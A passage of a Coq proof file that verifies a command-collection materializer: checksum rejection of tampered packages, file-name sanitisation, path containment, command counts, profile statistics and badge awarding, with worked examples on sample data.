(** The comparison itself works: a file whose checksum matches its commands
    is accepted, and refused once the command list is altered. *)
Example import_consistent_package :
  importPackage (writeFile noFiles "p.json" (consistentPackage cliCommand)) "p.json"
  = Ok (consistentPackage cliCommand).
Proof. vm_compute. reflexivity. Qed.

Example import_tampered_package :
  importPackage (writeFile noFiles "p.json" (consistentPackage tamperedCommand)) "p.json"
  = Throw "Invalid package file: Package checksum mismatch - data may be corrupted".
Proof. vm_compute. reflexivity. Qed.

End PackageRoundTrip.

(* ================================================================== *)
(** * Further properties of the scripts *)
(* ================================================================== *)

(** ** File names and profiles of the materializer *)

Section MaterializerInvariants.
Import Js Json Crypto Parser Organizer MaterializerSpec Checks.

Lemma allChars_substring0 (p : ascii -> bool) (s : string) : forall n,
  allChars p s = true -> allChars p (String.substring 0 n s) = true.
Proof.
  induction s as [|c s IH]; intros [|n] H; simpl; auto.
  simpl in H. apply andb_true_iff in H. destruct H as [Hc Hs].
  now rewrite Hc, IH.
Qed.

Lemma length_substring0 (s : string) : forall n,
  (String.length (String.substring 0 n s) <= n)%nat.
Proof.
  induction s as [|c s IH]; intros [|n]; simpl; try lia.
  specialize (IH n). lia.
Qed.

Lemma keepFileNameChars_kept (s : string) :
  allChars isFileNameChar (keepFileNameChars s) = true.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  destruct (isFileNameChar c) eqn:E; simpl; [now rewrite E|exact IH].
Qed.

Lemma visible_file_char (c : ascii) :
  isFileNameChar c = true -> isSpace c = false -> isSafeFileChar c = true.
Proof.
  unfold isFileNameChar, isSafeFileChar. intros H Hs. rewrite Hs in H.
  rewrite orb_false_r in H. exact H.
Qed.

Lemma dashSpaces_safe (s : string) : forall inRun,
  allChars isFileNameChar s = true ->
  allChars isSafeFileChar (dashSpaces inRun s) = true.
Proof.
  induction s as [|c s IH]; intros inRun H; simpl; [reflexivity|].
  simpl in H. apply andb_true_iff in H. destruct H as [Hc Hs].
  destruct (isSpace c) eqn:E.
  - destruct inRun; [now apply IH|]. simpl. now apply IH.
  - simpl. rewrite (visible_file_char c Hc E). now apply IH.
Qed.

Lemma sanitizeFileName_chars (name : string) :
  (String.length (sanitizeFileName name) <= 50)%nat /\
  allChars isSafeFileChar (sanitizeFileName name) = true.
Proof.
  unfold sanitizeFileName, takeChars. split.
  - apply length_substring0.
  - apply allChars_substring0, dashSpaces_safe, keepFileNameChars_kept.
Qed.

(** X1.  Whatever the name, [sanitizeFileName] answers at most 50
    characters, each a lower-case letter, a digit or a dash: no white
    space, no dot, no path separator. *)
Theorem sanitizeFileName_safe (name : string) :
  (String.length (sanitizeFileName name) <= 50)%nat /\
  allChars isSafeFileChar (sanitizeFileName name) = true.
Proof. exact (sanitizeFileName_chars name). Qed.


Lemma length_substring0_exact (s : string) : forall n,
  (n <= String.length s)%nat -> String.length (String.substring 0 n s) = n.
Proof.
  induction s as [|c s IH]; intros [|n] H; simpl in *; try lia.
  rewrite IH; lia.
Qed.

Lemma hexChar_hex (n : Z) : 0 <= n < 16 -> isHexChar (hexChar n) = true.
Proof.
  intros H.
  assert (F : forallb (fun k => isHexChar (hexChar (Z.of_nat k))) (seq 0 16) = true)
    by reflexivity.
  rewrite forallb_forall in F. rewrite <- (Z2Nat.id n) by lia.
  apply F, in_seq. lia.
Qed.

Lemma hexByte_hex (b : Z) : 0 <= b < 256 ->
  allChars isHexChar (hexByte b) = true /\ String.length (hexByte b) = 2%nat.
Proof.
  intros H. split; [|reflexivity]. unfold hexByte. cbn [allChars].
  rewrite !hexChar_hex; [reflexivity| |].
  - apply Z.mod_pos_bound. lia.
  - split; [apply Z.div_pos; lia|apply Z.div_lt_upper_bound; lia].
Qed.

Lemma hexOf_cons (b : Z) (bs : list Z) : hexOf (b :: bs) = hexByte b ++ hexOf bs.
Proof.
  unfold hexOf. cbn [map String.concat]. destruct bs as [|b' bs]; cbn [map].
  - cbn [String.concat]. now rewrite append_nil_r.
  - reflexivity.
Qed.

Lemma hexOf_hex (bytes : list Z) :
  Forall (fun b => 0 <= b < 256) bytes ->
  allChars isHexChar (hexOf bytes) = true /\
  String.length (hexOf bytes) = (2 * List.length bytes)%nat.
Proof.
  induction 1 as [|b bs Hb Hbs [IH1 IH2]]; [split; reflexivity|].
  rewrite hexOf_cons, allChars_append, length_append.
  destruct (hexByte_hex b Hb) as [H1 H2]. rewrite H1, H2, IH1, IH2.
  split; [reflexivity|cbn [List.length]; lia].
Qed.

Lemma littleEndian_bytes (count : nat) (x : Z) :
  Forall (fun b => 0 <= b < 256) (littleEndian count x) /\
  List.length (littleEndian count x) = count.
Proof.
  unfold littleEndian. split.
  - apply Forall_forall. intros b Hb. apply in_map_iff in Hb.
    destruct Hb as (i & <- & _). change 255 with (Z.ones 8).
    rewrite Z.land_ones by lia. apply Z.mod_pos_bound. lia.
  - now rewrite length_map, length_seq.
Qed.

Lemma md5_bytes (bytes : list Z) :
  Forall (fun b => 0 <= b < 256) (md5 bytes) /\ List.length (md5 bytes) = 16%nat.
Proof.
  unfold md5. cbv zeta.
  destruct (md5_blocks _ _ _) as [[[a b] c] d].
  split.
  - repeat (apply Forall_app; split); apply littleEndian_bytes.
  - rewrite !length_app. now rewrite !(proj2 (littleEndian_bytes 4 _)).
Qed.

Lemma shortId_of_md5 (data : string) : isShortId (takeChars 8 (md5hex data)).
Proof.
  destruct (md5_bytes (bytesOf data)) as [Hb Hl].
  destruct (hexOf_hex _ Hb) as [Hh Hlen]. rewrite Hl in Hlen.
  unfold isShortId, takeChars, md5hex. split.
  - apply length_substring0_exact. rewrite Hlen. cbn. lia.
  - now apply allChars_substring0.
Qed.

Lemma generateCommandId_short command index i :
  generateCommandId command index = Ok i -> isShortId i.
Proof.
  unfold generateCommandId, bind.
  destruct (commandNamePart command index); [|discriminate].
  destruct (commandCodePart command); [|discriminate].
  intros [= <-]. apply shortId_of_md5.
Qed.

Lemma mapIndexed_Forall {A : Type} (f : json -> nat -> result A) (P : A -> Prop) :
  (forall c i x, f c i = Ok x -> P x) ->
  forall cs index xs, mapIndexed f index cs = Ok xs -> Forall P xs.
Proof.
  intros Hf. induction cs as [|c rest IH]; intros index xs; cbn [mapIndexed].
  - intros [= <-]. constructor.
  - unfold bind. destruct (f c index) as [x|] eqn:Ex; [|discriminate].
    destruct (mapIndexed f (S index) rest) as [xs'|] eqn:Er; [|discriminate].
    intros [= <-]. constructor; eauto.
Qed.

Lemma mapIndexed_length {A : Type} (f : json -> nat -> result A) :
  forall cs index xs, mapIndexed f index cs = Ok xs ->
    List.length xs = List.length cs.
Proof.
  induction cs as [|c rest IH]; intros index xs; cbn [mapIndexed].
  - now intros [= <-].
  - unfold bind. destruct (f c index) as [x|] eqn:Ex; [|discriminate].
    destruct (mapIndexed f (S index) rest) as [xs'|] eqn:Er; [|discriminate].
    intros [= <-]. cbn [List.length]. f_equal. eauto.
Qed.

Lemma commandEntry_short d t command index e :
  commandEntry d t command index = Ok e -> isShortId (cmd_id e).
Proof.
  unfold commandEntry, bind.
  destruct (generateCommandId command index) as [i|] eqn:Ei; [|discriminate].
  repeat (match goal with
          | |- context [getProp ?c ?k] => destruct (getProp c k); [|discriminate]
          end).
  intros [= <-]. cbn. eapply generateCommandId_short; eauto.
Qed.

Lemma commandFile_shape m dir command index f :
  commandFile m dir command index = Ok f ->
  isShortId (file_id f) /\ safeFileName ".js" (fileName f) /\
  path f = pathJoin dir (fileName f).
Proof.
  unfold commandFile, bind.
  destruct (generateCommandId command index) as [i|] eqn:Ei; [|discriminate].
  destruct (getProp command "name") as [cname|]; [|discriminate].
  match goal with
  | |- context [if ?b then ?x else ?y] => destruct (if b then x else y) as [fn|] eqn:Ef
  end; [|discriminate].
  destruct (generateCommandFileContent _ _ _); [|discriminate].
  intros [= <-]. cbn. split; [eapply generateCommandId_short; eauto|].
  split; [|reflexivity].
  assert (exists n, fn = sanitizeFileName n ++ ".js") as [n ->].
  { destruct (truthyValue cname).
    - destruct cname as [[| | |n| |]|]; try discriminate Ef. exists n. congruence.
    - exists ("command-" ++ string_of_Z (Z.of_nat index + 1)). congruence. }
  exists (sanitizeFileName n). split; [reflexivity|]. apply sanitizeFileName_chars.
Qed.

Lemma pathJoin_safeFileName dir extension file :
  normalDirectory dir = true ->
  In extension [".json"; "-levelup.json"; ".js"] ->
  safeFileName extension file ->
  pathJoin dir file = dir ++ "/" ++ file.
Proof.
  intros Hd He (stem & -> & _ & Hs).
  apply pathJoin_plain; [exact Hd|]. now apply plainName_extension.
Qed.

(** X2.  When [generateCollectionFiles] succeeds, the collection
    identifier and every command identifier are eight hexadecimal digits;
    the collection file, the Level Up import file and every command file
    have for path the [path.join] of the directory given for them and a
    name made of at most 50 safe characters (lower-case letters, digits,
    dashes) and the extension; for a directory in normal form that path is
    the directory, a separator and the name: the file lies directly in the
    directory, and no submitted name can place it elsewhere. *)
Theorem generateCollectionFiles_artifacts d collectionsDir commandsDir now info :
  generateCollectionFiles d collectionsDir commandsDir now = Ok info ->
  isShortId (collectionId info) /\
  Forall (fun e => isShortId (cmd_id e)) (commands (collectionData info)) /\
  safeFileName ".json" (collectionFileName info) /\
  collectionPath info = pathJoin collectionsDir (collectionFileName info) /\
  (exists file, safeFileName "-levelup.json" file /\
                levelUpImportPath info = pathJoin collectionsDir file) /\
  Forall (fun f => isShortId (file_id f) /\ safeFileName ".js" (fileName f) /\
                   path f = pathJoin commandsDir (fileName f)) (commandFiles info) /\
  (normalDirectory collectionsDir = true ->
     collectionPath info = collectionsDir ++ "/" ++ collectionFileName info /\
     exists file, safeFileName "-levelup.json" file /\
                  levelUpImportPath info = collectionsDir ++ "/" ++ file) /\
  (normalDirectory commandsDir = true ->
     Forall (fun f => path f = commandsDir ++ "/" ++ fileName f) (commandFiles info)).
Proof.
  unfold generateCollectionFiles. cbv zeta. unfold bind.
  destruct (mapIndexed (commandEntry d now) 0 (Parser.commands d)) as [entries|] eqn:Ee;
    [|discriminate].
  destruct (mapIndexed (commandFile _ _) 0 (Parser.commands d)) as [files|] eqn:Ef;
    [|discriminate].
  cbv beta iota. intros [= <-].
  cbn [collectionId collectionData commands collectionFileName collectionPath
       levelUpImportPath commandFiles].
  assert (Hfiles : Forall (fun f => isShortId (file_id f) /\
                                    safeFileName ".js" (fileName f) /\
                                    path f = pathJoin commandsDir (fileName f)) files).
  { eapply mapIndexed_Forall; [|exact Ef]. intros; eapply commandFile_shape; eauto. }
  assert (Hjson : forall extension,
             safeFileName extension
               (sanitizeFileName (Parser.name (Parser.metadata d)) ++ extension)).
  { intros extension. eexists. split; [reflexivity|apply sanitizeFileName_chars]. }
  split; [apply shortId_of_md5|].
  split; [eapply mapIndexed_Forall; [|exact Ee]; intros; eapply commandEntry_short; eauto|].
  split; [apply Hjson|].
  split; [reflexivity|].
  split; [eexists; split; [apply Hjson|reflexivity]|].
  split; [exact Hfiles|].
  split.
  - intros Hd. split.
    + apply (pathJoin_safeFileName _ ".json"); [exact Hd|cbn; tauto|apply Hjson].
    + eexists. split; [apply Hjson|].
      apply (pathJoin_safeFileName _ "-levelup.json"); [exact Hd|cbn; tauto|apply Hjson].
  - intros Hd. eapply Forall_impl; [|exact Hfiles].
    intros f (_ & Hsafe & ->).
    apply (pathJoin_safeFileName _ ".js"); [exact Hd|cbn; tauto|exact Hsafe].
Qed.

(** X3.  When [generateCollectionFiles] succeeds, the reported total, the
    [commandCount] of the metadata, the commands of the collection file,
    the command files and the commands of the Level Up import all count
    the submitted commands: none is dropped and none is added. *)
Theorem generateCollectionFiles_counts d collectionsDir commandsDir now info :
  generateCollectionFiles d collectionsDir commandsDir now = Ok info ->
  let n := List.length (Parser.commands d) in
  totalCommands info = Z.of_nat n /\
  commandCount (collectionMetadata (collectionData info)) = Z.of_nat n /\
  List.length (commands (collectionData info)) = n /\
  List.length (commandFiles info) = n /\
  List.length (lu_commands (levelUpData info)) = n.
Proof.
  unfold generateCollectionFiles. cbv zeta. unfold bind.
  destruct (mapIndexed (commandEntry d now) 0 (Parser.commands d)) as [entries|] eqn:Ee;
    [|discriminate].
  destruct (mapIndexed (commandFile _ _) 0 (Parser.commands d)) as [files|] eqn:Ef;
    [|discriminate].
  cbv beta iota. intros [= <-]. cbn. rewrite length_map.
  rewrite (mapIndexed_length _ _ _ _ Ee), (mapIndexed_length _ _ _ _ Ef). tauto.
Qed.

(** *** The author profile *)

Lemma fold_left_sum {A : Type} (f : A -> Z) (l : list A) : forall a,
  fold_left (fun sum c => sum + f c) l a = a + sumZ (map f l).
Proof.
  induction l as [|x l IH]; intros a; cbn [fold_left map sumZ fold_right]; [lia|].
  rewrite IH. unfold sumZ. lia.
Qed.

Lemma updateUserProfile_collections file d info now :
  exists r,
    ref_id r = collectionId info /\ ref_commandCount r = totalCommands info /\
    collections (updateUserProfile file d info now)
    = upsertRef r (storedCollections file).
Proof.
  unfold updateUserProfile. cbv zeta.
  match goal with
  | |- context [awardBadges ?q now] =>
      destruct (awardBadges_frame q now) as (_ & _ & _ & H & _)
  end.
  cbv zeta in H. rewrite H. cbn [collections].
  eexists. split; [|split]; [| |destruct file; reflexivity]; reflexivity.
Qed.

(** X4.  Whatever the profile file held (nothing, text that does not
    parse, or a profile with any statistics), the profile written back
    has [totalCollections] equal to the length of its collection list and
    [totalCommands] equal to the sum of their command counts. *)
Theorem updateUserProfile_stats file d info now :
  let p' := updateUserProfile file d info now in
  totalCollections (profile_stats p') = Z.of_nat (List.length (collections p')) /\
  profile_totalCommands (profile_stats p')
  = sumZ (map ref_commandCount (collections p')).
Proof.
  cbv zeta. unfold updateUserProfile. cbv zeta.
  match goal with
  | |- context [awardBadges ?q now] =>
      destruct (awardBadges_frame q now) as (_ & _ & _ & H & H' & _)
  end.
  cbv zeta in H, H'. rewrite H, H'. cbn [collections profile_stats totalCollections
    profile_totalCommands]. split; [reflexivity|]. now rewrite fold_left_sum.
Qed.

Lemma replaceFirstRef_some r : forall l l',
  replaceFirstRef r l = Some l' ->
  exists a c b, l = (a ++ c :: b)%list /\ l' = (a ++ r :: b)%list /\
    ref_id c = ref_id r /\ existsb (hasId (ref_id r)) a = false.
Proof.
  induction l as [|c l IH]; intros l'; cbn [replaceFirstRef]; [discriminate|].
  destruct (String.eqb (ref_id c) (ref_id r)) eqn:E.
  - intros [= <-]. apply String.eqb_eq in E. exists [], c, l. auto.
  - destruct (replaceFirstRef r l) as [l1|]; [|discriminate].
    intros [= <-]. destruct (IH _ eq_refl) as (a & c' & b & -> & -> & Hc & Ha).
    exists (c :: a), c', b. repeat split; auto.
    cbn [existsb]. unfold hasId at 1. now rewrite E, Ha.
Qed.

Lemma replaceFirstRef_none r : forall l,
  replaceFirstRef r l = None -> existsb (hasId (ref_id r)) l = false.
Proof.
  induction l as [|c l IH]; cbn [replaceFirstRef existsb]; [reflexivity|].
  unfold hasId at 1. destruct (String.eqb (ref_id c) (ref_id r)); [discriminate|].
  destruct (replaceFirstRef r l); [discriminate|]. intros _. now apply IH.
Qed.

Lemma replaceFirstRef_found r : forall l,
  existsb (hasId (ref_id r)) l = true -> exists l', replaceFirstRef r l = Some l'.
Proof.
  intros l H. destruct (replaceFirstRef r l) eqn:E; [eauto|].
  apply replaceFirstRef_none in E. congruence.
Qed.

Lemma upsertRef_shape r l :
  (existsb (hasId (ref_id r)) l = true /\
   exists a c b, l = (a ++ c :: b)%list /\ upsertRef r l = (a ++ r :: b)%list /\
     ref_id c = ref_id r /\ existsb (hasId (ref_id r)) a = false) \/
  (existsb (hasId (ref_id r)) l = false /\ upsertRef r l = (l ++ [r])%list).
Proof.
  unfold upsertRef. destruct (replaceFirstRef r l) as [l'|] eqn:E.
  - left. destruct (replaceFirstRef_some _ _ _ E) as (a & c & b & -> & -> & Hc & Ha).
    split; [|exists a, c, b; auto].
    rewrite existsb_app. cbn [existsb]. unfold hasId at 2.
    rewrite Hc, String.eqb_refl. now rewrite orb_true_r.
  - right. split; [now apply replaceFirstRef_none|reflexivity].
Qed.

Lemma hasId_filter i r : ref_id r = i ->
  filter (fun c => negb (hasId i c)) [r] = [].
Proof. intros <-. cbn. unfold hasId. now rewrite String.eqb_refl. Qed.

(** X5.  The profile written back lists the processed collection; the
    entries of the other collections are kept as they were and in order;
    the list grows by one entry when the identifier is new and keeps its
    length when the collection is processed again. *)
Theorem updateUserProfile_upsert file d info now :
  let p' := updateUserProfile file d info now in
  let i := collectionId info in
  let old := storedCollections file in
  In i (refIds p') /\
  filter (fun c => negb (hasId i c)) (collections p')
  = filter (fun c => negb (hasId i c)) old /\
  List.length (collections p')
  = (if existsb (hasId i) old then List.length old else S (List.length old)).
Proof.
  cbv zeta. unfold refIds.
  destruct (updateUserProfile_collections file d info now) as (r & Hid & _ & ->).
  rewrite <- Hid.
  destruct (upsertRef_shape r (storedCollections file))
    as [(Hex & a & c & b & El & -> & Hc & Ha)|(Hex & ->)]; rewrite Hex.
  - rewrite El. split; [|split].
    + rewrite map_app. apply in_or_app. right. now left.
    + rewrite !filter_app. f_equal. cbn [filter]. unfold hasId. cbv beta.
      now rewrite Hc, String.eqb_refl.
    + rewrite !length_app. reflexivity.
  - split; [|split].
    + rewrite map_app. apply in_or_app. right. now left.
    + rewrite filter_app, (hasId_filter _ r eq_refl). apply app_nil_r.
    + rewrite length_app. cbn. lia.
Qed.

Lemma existsb_hasId_In i l :
  existsb (hasId i) l = true <-> In i (map ref_id l).
Proof.
  rewrite existsb_exists, in_map_iff. unfold hasId.
  split; intros (c & H1 & H2); exists c.
  - apply String.eqb_eq in H2. auto.
  - split; [auto|now apply String.eqb_eq].
Qed.

Lemma upsertRef_NoDup r l :
  NoDup (map ref_id l) -> NoDup (map ref_id (upsertRef r l)).
Proof.
  intros H.
  destruct (upsertRef_shape r l) as [(Hex & a & c & b & El & -> & Hc & Ha)|(Hex & ->)].
  - rewrite El in H. rewrite map_app in *. cbn [map] in *. now rewrite <- Hc.
  - rewrite map_app. apply NoDup_app; [exact H|repeat constructor; intros []|].
    intros i Hi [<-|[]]. apply existsb_hasId_In in Hi. congruence.
Qed.

Lemma hasBadge_In p i : hasBadge p i = true <-> In i (badgeIds p).
Proof.
  unfold hasBadge, badgeIds. rewrite existsb_exists, in_map_iff.
  split; intros (c & H1 & H2); exists c.
  - apply String.eqb_eq in H2. auto.
  - split; [auto|now apply String.eqb_eq].
Qed.

Lemma awardBadges_earned p now :
  let p' := awardBadges p now in
  (1 <= totalCollections (profile_stats p) -> hasBadge p' "first-collection" = true) /\
  (5 <= totalCollections (profile_stats p) -> hasBadge p' "prolific-contributor" = true) /\
  (20 <= profile_totalCommands (profile_stats p) -> hasBadge p' "command-master" = true).
Proof.
  cbv zeta. unfold awardBadges, hasBadge, push. cbn [badges].
  repeat split; intros H; apply Z.leb_le in H; rewrite H, existsb_app;
    apply orb_true_iff;
    match goal with
    | |- context [existsb (fun b => String.eqb (badge_id b) ?i) (badges p)] =>
        destruct (existsb (fun b => String.eqb (badge_id b) i) (badges p));
          [left; reflexivity|right]
    end;
    cbn [andb negb];
    repeat match goal with
           | |- context [if ?c then _ else _] => destruct c
           end; reflexivity.
Qed.

Lemma awardBadges_again p now now' :
  awardBadges (awardBadges p now) now' = awardBadges p now.
Proof.
  destruct (awardBadges_earned p now) as (C1 & C2 & C3).
  destruct (awardBadges_frame p now) as (_ & _ & _ & _ & Hs & _).
  cbv zeta in *. set (p' := awardBadges p now) in *. clearbody p'.
  unfold awardBadges. rewrite Hs.
  destruct (1 <=? totalCollections (profile_stats p)) eqn:E1;
    [rewrite C1 by now apply Z.leb_le|];
  (destruct (5 <=? totalCollections (profile_stats p)) eqn:E2;
    [rewrite C2 by now apply Z.leb_le|]);
  (destruct (20 <=? profile_totalCommands (profile_stats p)) eqn:E3;
    [rewrite C3 by now apply Z.leb_le|]);
  cbn [andb negb]; rewrite app_nil_r, <- Hs; destruct p'; reflexivity.
Qed.

(** X6.  After [awardBadges] the profile holds every badge whose threshold
    its statistics reach (one collection, five collections, twenty
    commands), and awarding again, at any later time, changes nothing. *)
Theorem awardBadges_settles p now now' :
  let p' := awardBadges p now in
  (1 <= totalCollections (profile_stats p) -> hasBadge p' "first-collection" = true) /\
  (5 <= totalCollections (profile_stats p) ->
   hasBadge p' "prolific-contributor" = true) /\
  (20 <= profile_totalCommands (profile_stats p) ->
   hasBadge p' "command-master" = true) /\
  awardBadges p' now' = p'.
Proof.
  cbv zeta. destruct (awardBadges_earned p now) as (C1 & C2 & C3).
  repeat split; try assumption. apply awardBadges_again.
Qed.

Lemma awardBadges_NoDup p now :
  NoDup (badgeIds p) -> NoDup (badgeIds (awardBadges p now)).
Proof.
  intros H. unfold badgeIds, awardBadges, push. cbn [badges]. rewrite map_app.
  pose proof (hasBadge_In p "first-collection") as H1.
  pose proof (hasBadge_In p "prolific-contributor") as H2.
  pose proof (hasBadge_In p "command-master") as H3.
  destruct (hasBadge p "first-collection"), (hasBadge p "prolific-contributor"),
    (hasBadge p "command-master");
  destruct (1 <=? totalCollections (profile_stats p)),
    (5 <=? totalCollections (profile_stats p)),
    (20 <=? profile_totalCommands (profile_stats p));
  cbn [andb negb app map badge_id]; rewrite ?app_nil_r; try exact H;
  (apply NoDup_app;
   [exact H
   |repeat constructor; cbn [In]; intuition discriminate
   |intros i Hi Hin; cbn [In] in Hin;
    repeat (destruct Hin as [<-|Hin]; [intuition discriminate|]); exact Hin]).
Qed.

Lemma upsertRef_member r l : In (ref_id r) (map ref_id (upsertRef r l)).
Proof.
  destruct (upsertRef_shape r l) as [(_ & a & c & b & _ & -> & _)|(_ & ->)];
    rewrite map_app; apply in_or_app; right; now left.
Qed.

Lemma upsertRef_nonempty r l : (1 <= List.length (upsertRef r l))%nat.
Proof.
  destruct (upsertRef_shape r l) as [(_ & a & c & b & _ & -> & _)|(_ & ->)];
    rewrite length_app; cbn [List.length]; lia.
Qed.

Lemma updateUserProfile_first_badge file d info now :
  hasBadge (updateUserProfile file d info now) "first-collection" = true.
Proof.
  unfold updateUserProfile. cbv zeta.
  apply awardBadges_earned. cbn [profile_stats totalCollections].
  match goal with
  | |- context [upsertRef ?r ?l] => pose proof (upsertRef_nonempty r l)
  end. lia.
Qed.

Lemma updateUserProfile_uniqueIds file d info now :
  (forall p, file = Stored p -> uniqueIds p) ->
  uniqueIds (updateUserProfile file d info now).
Proof.
  intros H. split.
  - unfold refIds.
    destruct (updateUserProfile_collections file d info now) as (r & _ & _ & ->).
    apply upsertRef_NoDup. destruct file as [| |p]; try constructor.
    apply (H p eq_refl).
  - unfold updateUserProfile. cbv zeta. apply awardBadges_NoDup.
    unfold badgeIds. cbn [badges]. destruct file as [| |p]; try constructor.
    apply (H p eq_refl).
Qed.

Lemma materialize_uniqueIds base store run :
  (forall u p, store u = Stored p -> uniqueIds p) ->
  forall u p, materialize base store run u = Stored p -> uniqueIds p.
Proof.
  intros H u p. unfold materialize, organizeCollection.
  destruct (isEmpty (contactInfo (fst run))); [apply H|].
  unfold bind. destruct (generateCollectionFiles _ _ _ _) as [info|]; [|apply H].
  unfold writeProfile. destruct (String.eqb u _); [|apply H].
  intros [= <-]. apply updateUserProfile_uniqueIds. intros q. apply H.
Qed.

(** X7.  If no stored profile lists a collection identifier or a badge
    identifier twice, then after any sequence of runs, for any authors and
    at any times, no stored profile does: a collection processed again
    replaces its entry and a badge is never awarded a second time. *)
Theorem runs_keep_ids_unique base runs : forall store,
  (forall u p, store u = Stored p -> uniqueIds p) ->
  forall u p, fold_left (materialize base) runs store u = Stored p -> uniqueIds p.
Proof.
  induction runs as [|run rest IH]; intros store H; cbn [fold_left]; [exact H|].
  apply IH. now apply materialize_uniqueIds.
Qed.

(** X8.  A run of [organizeCollection] that returns has a non-empty
    user name and reports it with the user directory, the [path.join] of
    the base directory and the name: for a base directory in normal form
    and a name of one plain segment, the directory of that name under the
    base.  It leaves a stored profile at the profile path of that
    directory, which lists the new collection and holds the First
    Collection badge; and it leaves every profile file as it was but at the
    paths of the files it writes. *)
Theorem organizeCollection_result store d base now store' out :
  organizeCollection store d base now = Ok (store', out) ->
  contactInfo d <> "" /\
  org_username out = contactInfo d /\
  userDir out = pathJoin base (contactInfo d) /\
  (normalDirectory base = true -> plainName (contactInfo d) = true ->
     userDir out = base ++ "/" ++ contactInfo d /\
     profilePath (userDir out) = base ++ "/" ++ contactInfo d ++ "/profile.json") /\
  (exists p', store' (profilePath (userDir out)) = Stored p' /\
     In (collectionId (org_collectionInfo out)) (refIds p') /\
     hasBadge p' "first-collection" = true) /\
  (forall file, ~ In file (writtenPaths base out) -> store' file = store file).
Proof.
  unfold organizeCollection.
  destruct (isEmpty (contactInfo d)) eqn:Ee; [discriminate|].
  unfold bind. destruct (generateCollectionFiles _ _ _ _) as [info|]; [|discriminate].
  intros [= <- <-]. unfold writtenPaths.
  cbn [org_username userDir org_collectionInfo].
  split; [now apply isEmpty_false|]. split; [reflexivity|]. split; [reflexivity|].
  split; [|split].
  - intros Hb Hn. rewrite (pathJoin_plain _ _ Hb Hn). split; [reflexivity|].
    unfold profilePath. rewrite pathJoin_plain.
    + now rewrite !append_assoc.
    + now apply normalDirectory_extend.
    + reflexivity.
  - unfold writeProfile. rewrite String.eqb_refl. eexists. split; [reflexivity|].
    split; [|apply updateUserProfile_first_badge]. unfold refIds.
    match goal with
    | |- context [updateUserProfile ?f d ?i now] =>
        destruct (updateUserProfile_collections f d i now) as (r & <- & _ & ->)
    end.
    apply upsertRef_member.
  - intros file Hfile. unfold writeProfile.
    destruct (String.eqb file _) eqn:E; [|reflexivity].
    apply String.eqb_eq in E. exfalso. apply Hfile. left. now symmetry.
Qed.

End MaterializerInvariants.

Section MaterializerInvariantsExamples.
Import Js Json Crypto Parser Organizer MaterializerSpec Checks.

Lemma runs_keep_ids_unique_witness :
  exists p,
    fold_left (materialize "collections")
      [ (sampleSubmission twentyCommands, "2025-01-02T00:00:00Z");
        (sampleSubmission oneCommand, "2025-02-01T00:00:00Z") ]
      emptyStore "collections/octocat/profile.json" = Stored p /\
    uniqueIds p.
Proof.
  destruct (fold_left (materialize "collections")
      [ (sampleSubmission twentyCommands, "2025-01-02T00:00:00Z");
        (sampleSubmission oneCommand, "2025-02-01T00:00:00Z") ]
      emptyStore "collections/octocat/profile.json") as [| |p] eqn:E;
    [vm_compute in E; discriminate E|vm_compute in E; discriminate E|].
  exists p. split; [reflexivity|].
  refine (runs_keep_ids_unique "collections" _ emptyStore _
            "collections/octocat/profile.json" p E).
  intros u q H. discriminate H.
Defined.

Lemma generateCollectionFiles_artifacts_witness :
  exists info,
    generateCollectionFiles (sampleSubmission oneCommand)
      "collections/octocat/collections" "collections/octocat/commands"
      "2025-01-02T00:00:00Z" = Ok info /\
    isShortId (collectionId info) /\
    safeFileName ".json" (collectionFileName info) /\
    collectionPath info
    = "collections/octocat/collections" ++ "/" ++ collectionFileName info.
Proof.
  destruct (generateCollectionFiles (sampleSubmission oneCommand)
              "collections/octocat/collections" "collections/octocat/commands"
              "2025-01-02T00:00:00Z") as [info|e] eqn:E;
    [|vm_compute in E; discriminate E].
  destruct (generateCollectionFiles_artifacts _ _ _ _ _ E)
    as (H1 & _ & H3 & _ & _ & _ & Hn & _).
  exists info. split; [reflexivity|]. split; [exact H1|]. split; [exact H3|].
  exact (proj1 (Hn eq_refl)).
Defined.

(** In a directory that is not in normal form the path is the normalized
    one. *)
Example collectionPath_normalized :
  match generateCollectionFiles (sampleSubmission oneCommand) "./out/" ""
          "2025-01-02T00:00:00Z" with
  | Ok info => (collectionPath info, map path (commandFiles info))
  | Throw _ => ("", [])
  end = ("out/form-tools.json", ["refresh.js"]).
Proof. vm_compute. reflexivity. Qed.

Lemma generateCollectionFiles_counts_witness :
  exists info,
    generateCollectionFiles (sampleSubmission twentyCommands)
      "collections/octocat/collections" "collections/octocat/commands"
      "2025-01-02T00:00:00Z" = Ok info /\
    totalCommands info = 20 /\
    List.length (commandFiles info) = 20%nat.
Proof.
  destruct (generateCollectionFiles (sampleSubmission twentyCommands)
              "collections/octocat/collections" "collections/octocat/commands"
              "2025-01-02T00:00:00Z") as [info|e] eqn:E;
    [|vm_compute in E; discriminate E].
  destruct (generateCollectionFiles_counts _ _ _ _ _ E) as (H1 & _ & _ & H4 & _).
  exists info. split; [reflexivity|]. split; [exact H1|exact H4].
Defined.

Lemma awardBadges_settles_witness :
  hasBadge
    (awardBadges
       {| username := "octocat"; displayName := "octocat";
          joinedAt := "2025-01-01T00:00:00Z"; collections := [];
          profile_stats := {| totalCollections := 5; profile_totalCommands := 7;
                              totalDownloads := 0; avgRating := 0 |};
          badges := []; bio := ""; website := ""; social := JObj [] |}
       "2025-01-02T00:00:00Z")
    "prolific-contributor" = true.
Proof.
  refine (proj1 (proj2 (awardBadges_settles _ "2025-01-02T00:00:00Z"
                          "2025-01-03T00:00:00Z")) _).
  cbn. lia.
Defined.

Lemma organizeCollection_result_witness :
  exists store' out,
    organizeCollection emptyStore (sampleSubmission oneCommand) "collections"
      "2025-01-02T00:00:00Z" = Ok (store', out) /\
    userDir out = "collections/octocat" /\
    profilePath (userDir out) = "collections/octocat/profile.json" /\
    store' "collections/someone-else/profile.json" = Absent.
Proof.
  destruct (organizeCollection emptyStore (sampleSubmission oneCommand) "collections"
      "2025-01-02T00:00:00Z") as [[store' out]|] eqn:E;
    [|vm_compute in E; discriminate E].
  destruct (organizeCollection_result _ _ _ _ _ _ E) as (_ & _ & _ & Hn & _ & Hf).
  destruct (Hn eq_refl eq_refl) as [Hd Hp].
  exists store', out. split; [reflexivity|]. split; [exact Hd|]. split; [exact Hp|].
  apply Hf. vm_compute in E. injection E as <- <-. vm_compute.
  intros [H|[H|[H|[H|[H|[]]]]]]; discriminate H.
Defined.

(** The user directory is what [path.join] answers: a leading [./] of the
